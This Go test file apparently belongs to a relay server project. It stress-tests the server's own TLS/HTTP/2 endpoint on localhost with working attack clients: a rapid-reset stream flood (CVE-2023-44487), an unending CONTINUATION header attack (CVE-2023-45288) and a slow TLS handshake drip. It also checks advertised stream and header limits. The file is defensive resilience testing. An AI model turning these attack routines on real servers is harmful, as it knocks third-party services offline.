package main

import (
	"bytes"
	"crypto/tls"
	"io"
	"net"
	"slices"
	"testing"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"potli/relay/storetest"
	"potli/relay/wire"
)

// speak opens HTTP/2 over conn and lets do write frames until the server has
// enough.
func speak(conf *tls.Config, do func(*http2.Framer, []byte) error) func(net.Conn) error {
	return func(raw net.Conn) error {
		conf := conf.Clone()
		conf.ServerName, conf.NextProtos = "relay.potli.example", []string{http2.NextProtoTLS}
		conn := tls.Client(raw, conf)
		defer conn.Close()
		if err := conn.Handshake(); err != nil {
			return err
		}
		go io.Copy(io.Discard, conn)
		if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
			return err
		}
		f := http2.NewFramer(conn, conn)
		if err := f.WriteSettings(); err != nil {
			return err
		}
		var block bytes.Buffer
		e := hpack.NewEncoder(&block)
		for _, h := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", "relay.potli.example"}, {":path", wire.LinkPath + storetest.ID("none") + "?recipient=x"}} {
			e.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]})
		}
		for {
			if err := do(f, block.Bytes()); err != nil {
				return err
			}
			time.Sleep(20 * time.Millisecond)
		}
	}
}

// rapidReset asks and takes it back at once, in volleys of more than the server
// lets wait (CVE-2023-44487).
func rapidReset() func(*http2.Framer, []byte) error {
	id := uint32(1)
	return func(f *http2.Framer, block []byte) error {
		time.Sleep(time.Second)
		for range 300 {
			if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true}); err != nil {
				return err
			}
			if err := f.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
				return err
			}
			id += 2
		}
		return nil
	}
}

// continuation is a header that never ends (CVE-2023-45288).
func continuation() func(*http2.Framer, []byte) error {
	begun := false
	return func(f *http2.Framer, block []byte) error {
		if !begun {
			begun = true
			if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block, EndStream: true}); err != nil {
				return err
			}
		}
		var more bytes.Buffer
		e := hpack.NewEncoder(&more)
		for range 50 {
			e.WriteField(hpack.HeaderField{Name: "x-more", Value: "and more and more and more and more and more", Sensitive: true})
		}
		return f.WriteContinuation(1, false, more.Bytes())
	}
}

// TestT13_RL10_HostileHTTP2 keeps 520 hostile connections to the program that
// speaks TLS itself, while normal requests over HTTP/2 go on as before.
func TestT13_RL10_HostileHTTP2(t *testing.T) {
	if testing.Short() {
		t.Skip("goes on until the last time-out")
	}
	needsNetworks(t)
	p, conf := secured(t)
	// A conversation has a state, so that each connection begins one of its own.
	fresh := func(of func() func(*http2.Framer, []byte) error) func(net.Conn) error {
		return func(conn net.Conn) error { return speak(conf, of())(conn) }
	}
	attacks := []*attack{
		{name: "slow handshake", n: 200, do: drip("\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", "x")},
		{name: "rapid reset", n: 140, do: fresh(rapidReset)},
		{name: "header without end", n: 180, do: fresh(continuation)},
	}
	n := normal{t: t, base: "https://relay.potli.example", at: p.on["https"], tls: conf}
	c := storetest.Client{Base: n.base, App: "https://potli.example", HTTP: browser(p.on["https"], conf, false), Now: time.Now}
	o := c.Create(t, "", "U", func(c *wire.Create) { c.Uses = wire.MaxUses })
	if res, err := c.HTTP.Get(n.base + wire.HealthPath); err != nil || res.ProtoMajor != 2 {
		t.Fatalf("want HTTP/2: %v %v", res, err)
	}
	n.id, n.token = o.ID, o.Token
	calm := n.run(3 * time.Second)
	s := lay(p.on["https"], 5*time.Second, attacks)
	until(t, "the siege is laid", func() bool { return descriptors(p) >= 300 })
	watch := watchProcess(t, p)
	besieged := n.calmest(calm)
	until(t, "all were cut", func() bool {
		return !slices.ContainsFunc(attacks, func(a *attack) bool { return a.cuts.Load() < int64(a.n) })
	})
	peak, memory := watch()
	report(t, attacks, calm, besieged, peak, memory)
	s.lift()
	until(t, "the connections are gone", func() bool { return descriptors(p) < 100 })
	if got := n.visit(net.IPv4(127, 90, 0, 1)); len(got) != 3 {
		t.Error("not served after the siege")
	}
	p.stop(t)
}

// A browser may have 32 requests under way on one connection, and no more.
func TestHTTP2_Streams(t *testing.T) {
	p, conf := secured(t)
	conf = conf.Clone()
	conf.ServerName, conf.NextProtos = "potli.example", []string{http2.NextProtoTLS}
	conn, err := tls.Dial("tcp", p.on["https"], conf)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(time.Minute))
	io.WriteString(conn, http2.ClientPreface)
	f := http2.NewFramer(conn, conn)
	f.WriteSettings()
	frame, err := f.ReadFrame()
	if err != nil {
		t.Fatal(err)
	}
	settings, ok := frame.(*http2.SettingsFrame)
	if !ok {
		t.Fatalf("the first frame is %v", frame)
	}
	for id, want := range map[http2.SettingID]uint32{http2.SettingMaxConcurrentStreams: 32, http2.SettingMaxFrameSize: 16 << 10, http2.SettingMaxHeaderListSize: headerBytes + 320} {
		if got, _ := settings.Value(id); got != want {
			t.Errorf("%v is %d, want %d", id, got, want)
		}
	}
}
